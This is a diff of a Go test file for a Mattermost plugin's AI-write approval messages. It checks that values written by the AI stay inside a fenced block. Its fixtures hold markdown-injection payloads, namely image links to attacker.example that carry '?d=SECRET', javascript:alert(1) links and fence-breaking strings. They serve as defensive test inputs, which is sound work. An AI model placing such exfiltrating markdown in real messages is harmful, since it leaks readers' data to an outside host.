@@ -7,7 +7,6 @@ import (
 	"time"
 
 	"github.com/mattermost/mattermost/server/public/plugin/plugintest"
-	"github.com/mattermost/mattermost/server/public/shared/markdown"
 	"github.com/stretchr/testify/mock"
 
 	"github.com/mcp-server/mattermost-plugin-mcp/server/mattermost"
@@ -25,6 +24,9 @@ var hostile = []string{
 	"`` ` `` [x](https://attacker.example/tick) `",
 	"[ref][1]\n\n[1]: https://attacker.example/ref",
 	"~town-square #tag **bold** _it_ | a | b |",
+	"a\u2424> ![a](https://attacker.example/p.png?d=SECRET)",
+	"a\u2424````\u2424[x](https://attacker.example/fence)",
+	"[x](javascript:alert(1)) http:/attacker.example/x mailto:a@attacker.example",
 }
 
 // outsideFences is a message without its fenced code blocks.
@@ -106,52 +108,52 @@ func TestTheBotsMessageAboutAnyWriteLinksOnlyToTheConfirmationPageWhateverTheMod
 	}
 }
 
-func TestTheModelsValuesInTheBotsMessageAreCodeAndSaySoAndTheNamesOfOthersAreEscaped(t *testing.T) {
+func TestTheBotsMessageHoldsEveryValueInOneFencedBlockAndOnlyThePluginsWordsOutsideIt(t *testing.T) {
 	a := &Approvals{opts: Options{PluginURL: func() string { return "https://mm.example/plugins/mcp-server" }}}
-	v := "![a](https://attacker.example/p.png?d=SECRET)"
+	v := "a\u2424> ![a](https://attacker.example/p.png?d=SECRET)"
 	plan := posting.Plan{CallerID: "alice", Action: ActionCreateChan, Dest: posting.Destination{Label: "~harbour", Place: "the new channel in Acme"},
-		Channel: &posting.ChannelSpec{TeamID: "t", Team: "Acme", Name: "harbour", DisplayName: v, Purpose: "`run` this"}}
+		Channel: &posting.ChannelSpec{TeamID: "t", Team: "Acme ``` Ops", Name: "harbour", DisplayName: v, Purpose: "`run` this\r\nnow"}}
 	dm := a.askingText(plan, Record{ID: "r", State: StatePending, CreatedAt: time.Now()}, time.UTC)
-	for _, want := range []string{
-		"**Create the public channel `" + v + "` in Acme**",
-		"- Name: `" + v + "` (written by the AI)",
-		"- Address: `~harbour` (written by the AI)",
-		"- Purpose: `` `run` this `` (written by the AI)",
-	} {
-		if !strings.Contains(dm, want) {
-			t.Errorf("the message lacks %q:\n%s", want, dm)
-		}
+	want := "**An AI assistant asks to create a channel as you.** Nothing happens until you accept.\n\n" +
+		"````\n" +
+		"Create the public channel “a↵> ![a](https://attacker.example/p.png?d=SECRET)” in Acme ``` Ops\n" +
+		"Team: Acme ``` Ops\n" +
+		"Name (written by the AI): a↵> ![a](https://attacker.example/p.png?d=SECRET)\n" +
+		"Address (written by the AI): ~harbour\n" +
+		"Kind: public channel: anyone in Acme ``` Ops can find and join it\n" +
+		"Purpose (written by the AI): `run` this↵now\n" +
+		"Members: only you\n" +
+		"````\n\nIt waits for your answer until "
+	if !strings.HasPrefix(dm, want) || !strings.HasSuffix(dm, ". [Open the confirmation](https://mm.example/plugins/mcp-server/confirm/r) to accept or decline it.") {
+		t.Errorf("the message reads:\n%s\nwant it to begin:\n%s", dm, want)
 	}
-	if got := markdownText("Town Square ![a](https://x.example/i.png) me@x.example"); got != `Town Square !\[a\](https\:\/\/x.example/i.png) me\@x.example` {
-		t.Errorf("escaped as %q", got)
+	// Outside the block only the plugin's words and its link stand.
+	if out := outsideFences(dm); strings.Contains(out, "attacker") || strings.Contains(out, "Acme") || strings.Contains(out, "run") {
+		t.Errorf("a value stands outside the block:\n%s", out)
 	}
 }
 
-func TestACodeSpanHoldsAnyValueOnOneLineBehindAFenceLongerThanItsBackticks(t *testing.T) {
-	for _, c := range []struct{ in, want string }{
-		{"thumbsup", "`thumbsup`"},
-		{"a`b", "``a`b``"},
-		{"``x", "``` ``x ```"},
-		{"one\ntwo\r\nthree", "`one↵two↵three`"},
-		{"bell\a", "`bell\uFFFD`"},
-		{"", "(empty)"},
+func TestTheOutcomeOfAWriteSaysWhatBecameOfItInThePluginsWordsAndWhereInTheBlock(t *testing.T) {
+	v := "Ops\u2424![a](https://attacker.example/p.png)"
+	where := "\n\n```\nWhere: Ops↵![a](https://attacker.example/p.png)"
+	rec := Record{ID: "r", Action: ActionPost, Destination: "~ops (id c)", Place: v}
+	for _, c := range []struct {
+		state, outcome, permalink, want string
+	}{
+		{StatePosted, "", "https://mm.example/acme/pl/p1", "**Posted** after you accepted: https://mm.example/acme/pl/p1" + where + "\n```"},
+		{StateDeclined, "", "", "**Declined**: nothing was sent." + where + "\n```"},
+		{StateFailed, failedBefore + "Mattermost refused " + v, "", "**Failed** after you accepted: nothing was posted." + where +
+			"\nWhy: Mattermost refused Ops↵![a](https://attacker.example/p.png)\n```"},
+		{StateWithdrawn, "", "", "**Withdrawn**: the AI assistant took this back before you answered; nothing was posted. It can no longer be accepted." + where + "\n```"},
 	} {
-		if got := codeSpan(c.in); got != c.want {
-			t.Errorf("codeSpan(%q) = %q, want %q", c.in, got, c.want)
+		r := rec
+		r.State, r.Outcome, r.Permalink = c.state, c.outcome, c.permalink
+		if got := OutcomeMessage(r); got != c.want {
+			t.Errorf("%s reads:\n%s\nwant:\n%s", c.state, got, c.want)
 		}
 	}
-	for _, v := range hostile {
-		span := codeSpan(v)
-		var spans []string
-		markdown.Inspect(span, func(n any) bool {
-			if s, ok := n.(*markdown.CodeSpan); ok {
-				spans = append(spans, s.Code)
-			}
-			return true
-		})
-		if len(spans) != 1 || len(LinkTargets(span)) != 0 || strings.Contains(span, "\n") {
-			t.Errorf("codeSpan(%q) = %q parses as spans %q, links %q", v, span, spans, LinkTargets(span))
-		}
+	if got := OutcomeMessage(Record{State: StateDeclined, Action: ActionSetStatus}); got != "**Declined**: your status was not changed." {
+		t.Errorf("a declined status without a place reads %q", got)
 	}
 }
 
